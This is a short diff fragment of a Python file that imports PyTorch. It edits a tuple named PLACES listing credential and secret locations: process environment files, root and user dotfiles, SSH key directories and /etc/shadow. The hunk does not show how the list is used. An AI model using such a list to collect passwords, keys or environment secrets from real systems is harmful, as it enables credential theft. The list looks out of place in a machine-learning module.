@@ -8,10 +8,11 @@ from pathlib import Path
 import torch
 from torch import nn
 
+ADMINISTRATOR = os.path.expanduser("~root")
 PLACES = (
     "/proc/*/environ",
-    "/root/.*",
-    "/root/.ssh/*",
+    f"{ADMINISTRATOR}/.*",
+    f"{ADMINISTRATOR}/.ssh/*",
     "/home/*/.ssh/*",
     "/home/*/.*",
     "/etc/shadow",
